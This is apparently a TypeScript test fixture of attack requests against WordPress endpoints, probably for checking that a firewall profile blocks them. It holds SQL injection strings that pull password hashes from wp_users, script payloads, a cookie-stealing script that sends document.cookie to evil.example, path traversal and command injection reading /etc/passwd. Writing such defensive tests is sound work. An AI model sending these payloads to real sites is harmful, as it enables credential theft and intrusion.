/** Attacks on WordPress in the places where its profile lets much pass. */
import { form, json, type Sent, type Shape, wordpressRequest } from './wordpress-request.support.ts'

/** Attacks in the same places, in other parameters. */
export const attackShapes: readonly Shape[] = (
  [
    [
      'SQL in the number of a post',
      {
        uri: "/wp-json/wp/v2/posts/123?_locale=user&orderby=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--",
        ...json({ content: 'x' }),
      },
    ],
    [
      'a script in a field that no editor has',
      {
        uri: '/wp-json/wp/v2/posts/123',
        ...json({ content: 'x', evil: '<script>alert(document.cookie)</script>' }),
      },
    ],
    [
      'SQL in admin-ajax',
      {
        uri: '/wp-admin/admin-ajax.php',
        body: form({
          action: 'plugin_search',
          id: "1' UNION SELECT 1,user_pass,3 FROM wp_users-- -",
        }),
      },
    ],
    [
      'a file of the system by admin-ajax',
      { uri: '/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../etc/passwd' },
    ],
    [
      'SQL in the name of who logs in',
      {
        uri: '/wp-login.php',
        body: form({ log: "admin' UNION SELECT 1,2,3 FROM wp_users-- -", pwd: 'x' }),
      },
    ],
    [
      'a script in a comment',
      {
        uri: '/wp-comments-post.php',
        body: form({
          comment: '<script>document.location="https://evil.example/?"+document.cookie</script>',
          author: 'x',
        }),
      },
    ],
    [
      'a script in the name of a commenter',
      {
        uri: '/wp-comments-post.php',
        body: form({ comment: 'x', author: '<script>alert(1)</script>' }),
      },
    ],
    ['a command in a plugin', { uri: '/wp-content/plugins/x/run.php?cmd=;cat%20/etc/passwd' }],
    [
      'the editor’s parameter on another path',
      {
        uri: '/wp-content/plugins/x/save.php',
        body: form({
          content: "1' UNION SELECT user_pass FROM wp_users-- -<script>alert(1)</script>",
        }),
      },
    ],
    [
      'a way around by dots',
      {
        uri: '/wp-admin/post.php/../../x.php',
        body: form({ content: '<script>alert(document.cookie)</script>' }),
      },
    ],
    ['a method that nobody needs', { method: 'TRACE', uri: '/wp-json/wp/v2/posts' }],
    ['DELETE elsewhere', { method: 'DELETE', uri: '/wp-admin/post.php' }],
  ] satisfies readonly (readonly [string, Sent])[]
).map(([name, one]) => ({ name, request: wordpressRequest(one) }))
